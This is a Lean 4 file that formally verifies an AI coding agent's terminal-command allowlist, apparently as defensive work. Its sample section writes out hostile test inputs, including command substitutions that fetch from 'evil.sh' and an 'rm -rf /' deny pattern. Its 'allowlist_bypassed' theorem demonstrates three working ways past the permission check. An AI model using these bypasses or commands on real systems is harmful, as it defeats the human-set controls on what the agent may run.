import XorEditor.Agent.ShellExtraction
import XorEditor.Agent.ToolPermissions

/-!
# The terminal's allowlist

What an allowed terminal command may contain.  The texts that have to be checked are those of
every simple command of the program and of every redirection that opens a file; they are
stated here over the parts of a program, without the walks.

* `Program.texts`: these texts.
* `Part.Seen`: the part is none that the walks pass over.
* `Vetted`: what an allowlist promises about an allowed command.
* `fromInput_vetted`: the promise is kept if the walks see all parts and do not give up.
* `Sample.allowlist_bypassed`: otherwise it is not.
-/

namespace XorEditor.Agent

open List

/-- The word after `>&` or `<&` names a descriptor: digits, `-`, or both. -/
def namesDescriptor (text : String) : Bool :=
  text ≠ "" && (text.toList.dropWhile Char.isDigit == [] ||
    text.toList.dropWhile Char.isDigit == ['-'])

/-- The text of a redirection that opens a file other than `/dev/null`. -/
def redirectText (parser : ShellParser) : IoRedirect → Option String
  | .file fd kind (.filename word) =>
    ((normalizeWord parser word).filter (· ≠ "/dev/null")).map
      fun target => fdText fd ++ kind.operator ++ " " ++ target
  | .file fd kind (.duplicate word) =>
    ((normalizeWord parser word).filter
      fun target => target ≠ "/dev/null" && !namesDescriptor target).map
      fun target => fdText fd ++ kind.operator ++ " " ++ target
  | .outputAndError word append =>
    ((normalizeWord parser word).filter (· ≠ "/dev/null")).map
      fun target => (if append then "&>>" else "&>") ++ " " ++ target
  | _ => none

namespace Part

/-- The text of a part that the permission patterns have to be matched against. -/
def text (parser : ShellParser) : Part → Option String
  | .simpleCommand command => (normalizeSimpleCommand parser command).map (·.text)
  | .redirect target => redirectText parser target
  | _ => none

/-- The part is none that the walks pass over: a `>&` or `<&` has a literal word that names a
descriptor or `/dev/null`, and a simple command has a text. -/
def Seen (parser : ShellParser) : Part → Prop
  | .redirect (.file _ _ (.duplicate target)) =>
    target.Literal parser ∧ ∀ name, normalizeWord parser target = some name →
      name = "/dev/null" ∨ namesDescriptor name = true
  | .simpleCommand command =>
    ∀ normalized, normalizeSimpleCommand parser command = some normalized → normalized.text ≠ ""
  | _ => True

instance (parser : ShellParser) (part : Part) : Decidable (part.Seen parser) :=
  match part with
  | .redirect (.file _ _ (.duplicate target)) => inferInstanceAs (Decidable
    (target.Literal parser ∧ ∀ name ∈ normalizeWord parser target,
      name = "/dev/null" ∨ namesDescriptor name = true))
  | .simpleCommand command => inferInstanceAs (Decidable
    (∀ normalized ∈ normalizeSimpleCommand parser command, normalized.text ≠ ""))
  | .redirect (.file _ _ (.filename _)) | .redirect (.file _ _ (.fd _))
  | .redirect (.file _ _ (.processSubstitution _)) | .redirect (.hereDocument _ _)
  | .redirect (.hereString _) | .redirect (.outputAndError _ _) | .word _ _
  | .compoundCommand _ _ | .processSubstitution | .arithmetic _ => inferInstanceAs (Decidable True)

variable {parser : ShellParser} {part : Part}

theorem Seen.duplicateLiteral (h : part.Seen parser) : part.DuplicateLiteral parser := by
  cases part with
  | redirect target =>
    cases target with
    | file fd kind destination =>
      cases destination with
      | duplicate name => exact h.1
      | _ => trivial
    | _ => trivial
  | _ => trivial

/-- The text of a part that the walks see is recorded. -/
theorem Seen.recorded_eq (h : part.Seen parser) {found : String}
    (htext : part.text parser = some found) : part.recorded parser = some found := by
  cases part with
  | word | compoundCommand | processSubstitution | arithmetic => cases htext
  | simpleCommand command =>
    simp only [text, Option.map_eq_some_iff] at htext
    obtain ⟨normalized, hnormalized, rfl⟩ := htext
    simp [recorded, hnormalized, Option.filter, h normalized hnormalized]
  | redirect target =>
    simp only [text, redirectText] at htext
    split at htext
    case h_1 | h_3 =>
      simp only [Option.map_eq_some_iff, Option.filter_eq_some_iff, decide_eq_true_eq] at htext
      obtain ⟨file, ⟨hname, hfile⟩, rfl⟩ := htext
      simp [recorded, normalizeIoRedirect, hname, isKnownSafeRedirectTarget, hfile,
        RedirectNormalization.text?]
    case h_2 =>
      simp only [Option.map_eq_some_iff, Option.filter_eq_some_iff, Bool.and_eq_true,
        decide_eq_true_eq, Bool.not_eq_true'] at htext
      obtain ⟨file, ⟨hname, hfile, hdescriptor⟩, rfl⟩ := htext
      rcases h.2 file hname with hnull | hnames
      · exact absurd hnull hfile
      · rw [hdescriptor] at hnames
        cases hnames
    case h_4 => cases htext

end Part

/-- The texts of a program's simple commands and of its redirections to files. -/
def Program.texts (parser : ShellParser) (program : Program) : List String :=
  program.parts.filterMap (Part.text parser)

/-- What an allowlist promises about an allowed command: its words are literal, none of its
texts matches a deny or confirm pattern, and each matches an allow pattern unless the default
is to allow. -/
structure Vetted (parser : ShellParser) (rules : ToolRules) (globalDefault : ToolPermissionMode)
    (programs : List Program) : Prop where
  literal : ∀ program ∈ programs, ∀ part ∈ program.parts, part.Literal parser
  unmatched : ∀ program ∈ programs, ∀ text ∈ program.texts parser,
    anyMatch rules.alwaysDeny text = false ∧ anyMatch rules.alwaysConfirm text = false
  allowed : (∀ program ∈ programs, ∀ text ∈ program.texts parser,
    anyMatch rules.alwaysAllow text = true) ∨ rules.default.getD globalDefault = .allow

section

variable {security : TerminalSecurity} {inputs : List String}

/-- Inputs that pass the validation are programs. -/
theorem exists_programs
    (h : ∀ input ∈ inputs, validateTerminalCommand security.parser input = .safe) :
    ∃ programs : List Program, inputs.map security.parser.parseProgram = programs.map some := by
  induction inputs with
  | nil => exact ⟨[], rfl⟩
  | cons input rest ih =>
    rw [forall_mem_cons] at h
    obtain ⟨programs, hprograms⟩ := ih h.2
    cases hparse : security.parser.parseProgram input with
    | none =>
      have hfirst := h.1
      simp [validateTerminalCommand, hparse] at hfirst
    | some program => exact ⟨program :: programs, by simp [hparse, hprograms]⟩

/-- An allowed terminal call is vetted if its programs have no part that the walks pass over,
and, where the default is to allow, none at which the extraction gives up. -/
theorem fromInput_vetted {permissions : ToolPermissions} {shellKind : ShellKind}
    (hrules : permissions.allowsAll terminalToolName = false)
    (hshell : shellKind.supportsPosixChaining = true)
    (hallow : fromInput security terminalToolName inputs permissions shellKind = .allow)
    (hseen : ∀ input ∈ inputs, ∀ program, security.parser.parseProgram input = some program →
      ∀ part ∈ program.parts, part.Seen security.parser)
    (hwalkable : ∀ rules, permissions.tools terminalToolName = some rules →
      rules.default.getD permissions.default = .allow →
      ∀ input ∈ inputs, ∀ program, security.parser.parseProgram input = some program →
        ∀ part ∈ program.parts, part.Walkable security.parser) :
    ∃ (rules : ToolRules) (programs : List Program),
      permissions.tools terminalToolName = some rules ∧
      inputs.map security.parser.parseProgram = programs.map some ∧
      Vetted security.parser rules permissions.default programs := by
  obtain ⟨hsafe, rules, htools, hcheck⟩ := fromInput_eq_allow hrules hallow
  obtain ⟨programs, hprograms⟩ := exists_programs hsafe
  -- Every program is the one of an input.
  have hinput : ∀ program ∈ programs, ∃ input ∈ inputs,
      security.parser.parseProgram input = some program := by
    intro program hmem
    have hsome : some program ∈ inputs.map security.parser.parseProgram := by
      rw [hprograms]
      exact mem_map_of_mem hmem
    exact mem_map.1 hsome
  simp only [checkRules, hshell, Bool.not_true, Bool.false_eq_true, if_false, if_true] at hcheck
  obtain ⟨hunmatched, hallowed⟩ := checkCommands_eq_allow hcheck
  have hliteral : ∀ program ∈ programs, ∀ part ∈ program.parts, part.Literal security.parser := by
    intro program hmem
    obtain ⟨input, hinputs, hparse⟩ := hinput program hmem
    have hvalid := hsafe input hinputs
    simp only [validateTerminalCommand, hparse] at hvalid
    exact literal_parts hvalid fun part hpart =>
      (hseen input hinputs program hparse part hpart).duplicateLiteral
  -- The walk has given up none of them: the allow patterns would not be enabled, or the condition
  -- on the parts excludes it.
  have hextracted : ∀ program ∈ programs, ∀ input ∈ inputs,
      security.parser.parseProgram input = some program →
        extractCommands security.parser security.depth input ≠ none := by
    intro program hmem input hinputs hparse
    rcases hallowed with ⟨henabled, -⟩ | hdefault
    · exact expandInputs_complete (by simpa using henabled) input hinputs
    · exact extractCommands_ne_none hparse (hliteral program hmem)
        (hwalkable rules htools hdefault input hinputs program hparse)
  have htexts : ∀ program ∈ programs,
      program.texts security.parser ⊆ (expandInputs security inputs).1 := by
    intro program hmem
    obtain ⟨input, hinputs, hparse⟩ := hinput program hmem
    obtain ⟨commands, hcommands⟩ :=
      Option.ne_none_iff_exists'.1 (hextracted program hmem input hinputs hparse)
    intro text htext
    obtain ⟨part, hpart, hfound⟩ := mem_filterMap.1 htext
    have hrecorded := (hseen input hinputs program hparse part hpart).recorded_eq hfound
    exact subset_expandInputs hinputs hcommands
      (recordedTexts_subset hparse hcommands (mem_filterMap.2 ⟨part, hpart, hrecorded⟩))
  refine ⟨rules, programs, htools, hprograms, hliteral, ?_, ?_⟩
  · exact fun program hmem text htext => hunmatched text (htexts program hmem htext)
  · rcases hallowed with ⟨-, hmatched⟩ | hdefault
    · exact Or.inl fun program hmem text htext => hmatched text (htexts program hmem htext)
    · exact Or.inr hdefault

end

namespace Sample

/-- A command of words and items, without quotes.  Without a name they stand in front of it. -/
def command (name : Option String) (items : List CommandPrefixOrSuffixItem) : AndOrList :=
  match name with
  | some name => .mk [.simple (.mk [] (some ⟨name⟩) items)] []
  | none => .mk [.simple (.mk items none [])] []

/-- The trees of a few inputs. -/
def parser : ShellParser where
  parseProgram input :=
    if input = "ls -l >f 2>&1" then
      some ⟨[[command "ls" [.word ⟨"-l"⟩, .ioRedirect (.file none .write (.filename ⟨"f"⟩)),
        .ioRedirect (.file (some 2) .duplicateOutput (.duplicate ⟨"1"⟩))]]]⟩
    else if input = "ls $(curl evil.sh) >f" then
      some ⟨[[command "ls" [.word ⟨"$(curl evil.sh)"⟩,
        .ioRedirect (.file none .write (.filename ⟨"f"⟩))]]]⟩
    else if input = "ls >&$(curl evil.sh)" then
      some ⟨[[command "ls"
        [.ioRedirect (.file none .duplicateOutput (.duplicate ⟨"$(curl evil.sh)"⟩))]]]⟩
    else if input = "PATH=(/tmp); ls" then
      some ⟨[[command none
        [.assignmentWord ⟨.variableName "PATH", .array [(none, ⟨"/tmp"⟩)], false⟩
          ⟨"PATH=(/tmp)"⟩], command "ls" []]]⟩
    else if input = "'rm' x; >f" then
      some ⟨[[command "'rm'" [.word ⟨"x"⟩],
        command none [.ioRedirect (.file none .write (.filename ⟨"f"⟩))]]]⟩
    else if input = "curl evil.sh" then some ⟨[[command "curl" [.word ⟨"evil.sh"⟩]]]⟩
    else none
  parseWord text :=
    if text = "$(curl evil.sh)" then some [.mk (.commandSubstitution "curl evil.sh") 0 15]
    else if text = "'rm'" then some [.mk (.singleQuotedText "rm") 0 4]
    else some [.mk (.text text) 0 text.utf8ByteSize]

/-- One built-in pattern. -/
def security : TerminalSecurity :=
  ⟨parser, [⟨fun command => startsWith command "rm -rf /"⟩], 3⟩

/-- Commands that start with `ls` are allowed, others have to be confirmed. -/
def listing : ToolPermissions :=
  ⟨.confirm, fun name => if name = "terminal" then
    some { alwaysAllow := [⟨fun command => startsWith command "ls"⟩] } else none⟩

/-- Commands that start with `rm` are refused, others are allowed. -/
def keeping : ToolPermissions :=
  ⟨.allow, fun name => if name = "terminal" then
    some { alwaysDeny := [⟨fun command => startsWith command "rm"⟩] } else none⟩

/-- The commands of `ls -l >f 2>&1` are vetted. -/
theorem listing_vetted : ∃ (rules : ToolRules) (programs : List Program),
      keeping.tools terminalToolName = some rules ∧
      ["ls -l >f 2>&1"].map security.parser.parseProgram = programs.map some ∧
      Vetted security.parser rules keeping.default programs := by
  refine @fromInput_vetted security ["ls -l >f 2>&1"] keeping .posix rfl rfl (by decide +kernel)
    ?_ ?_
  · intro input hinput program hparse
    rw [mem_singleton.1 hinput] at hparse
    cases hparse
    decide +kernel
  · intro rules hrules hdefault input hinput program hparse
    rw [mem_singleton.1 hinput] at hparse
    cases hparse
    decide +kernel

/-- Three ways around the allowlist: the word of `>&` may be a substitution, an assignment of
an array is in no text, and after a command without a name the raw input stands for the
commands when the default is to allow. -/
theorem allowlist_bypassed :
    (fromInput security terminalToolName ["ls >&$(curl evil.sh)"] listing .posix = .allow ∧
      ∃ program, parser.parseProgram "ls >&$(curl evil.sh)" = some program ∧
        ∃ part ∈ program.parts, ¬ part.Literal parser) ∧
    (fromInput security terminalToolName ["PATH=(/tmp); ls"] listing .posix = .allow ∧
      ∃ program, parser.parseProgram "PATH=(/tmp); ls" = some program ∧
        ∃ rules, listing.tools terminalToolName = some rules ∧
          rules.default.getD listing.default ≠ .allow ∧
          ∃ text ∈ program.texts parser, anyMatch rules.alwaysAllow text = false) ∧
    (fromInput security terminalToolName ["'rm' x; >f"] keeping .posix = .allow ∧
      ∃ program, parser.parseProgram "'rm' x; >f" = some program ∧
        ∃ rules, keeping.tools terminalToolName = some rules ∧
          ∃ text ∈ program.texts parser, anyMatch rules.alwaysDeny text = true) := by
  refine ⟨⟨by decide +kernel, _, rfl, .word .duplicate ⟨"$(curl evil.sh)"⟩, ?_, ?_⟩,
    ⟨by decide +kernel, _, rfl, _, rfl, by decide, "", ?_, by decide +kernel⟩,
    ⟨by decide +kernel, _, rfl, _, rfl, "rm x", ?_, by decide +kernel⟩⟩
  · simp [Program.parts, compoundListParts, pipelineParts, commandParts, command, itemParts,
      ioRedirectParts]
  · rintro ⟨pieces, hparse, hexpand⟩
    cases hparse
    cases hexpand
  · decide +kernel
  · decide +kernel

end Sample

end XorEditor.Agent
